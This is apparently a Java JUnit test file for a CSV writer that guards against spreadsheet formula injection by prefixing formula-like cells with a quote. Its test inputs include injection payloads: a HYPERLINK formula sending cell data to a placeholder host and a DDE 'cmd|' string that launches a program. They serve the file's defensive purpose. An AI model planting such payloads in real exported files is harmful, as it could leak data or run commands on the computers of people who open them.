package org.imagoclinic.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** What a spreadsheet would take for a formula is written as text; everything else as it was, read back by a CSV parser. */
class SpreadsheetSafeCsvTests {

    @Test
    void cellsThatStartLikeAFormulaGetALeadingQuoteAndNothingElseChanges() throws IOException {
        StringWriter out = new StringWriter();
        try (SpreadsheetSafeCsv csv = SpreadsheetSafeCsv.to(out, "cell")) {
            for (String cell : List.of("=HYPERLINK(\"http://x/\"&A2,\"open\")", "+1+2", "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)", "\tTAB", "\rCR", "-0.35", "+12", "42", "plain, \"quoted\" text", "", "'already")) {
                csv.row(cell);
            }
            csv.row((Object) null);
        }

        List<String> read = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(out.toString())).stream().map(row -> row.get("cell")).toList();

        assertThat(read).containsExactly("'=HYPERLINK(\"http://x/\"&A2,\"open\")", "'+1+2", "'-2+3+cmd|' /C calc'!A0",
                "'@SUM(1+1)", "'\tTAB", "'\rCR", "-0.35", "+12", "42", "plain, \"quoted\" text", "", "'already", "");
    }

    @Test
    void theHeaderIsWrittenAndEveryCellOfARowKeepsItsPlace() throws IOException {
        StringWriter out = new StringWriter();
        try (SpreadsheetSafeCsv csv = SpreadsheetSafeCsv.to(out, "a", "b", "c")) {
            csv.row(List.of("=1", 2, "x"));
        }

        CSVRecord row = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(out.toString())).getRecords().getFirst();
        assertThat(row.toList()).containsExactly("'=1", "2", "x");
    }
}
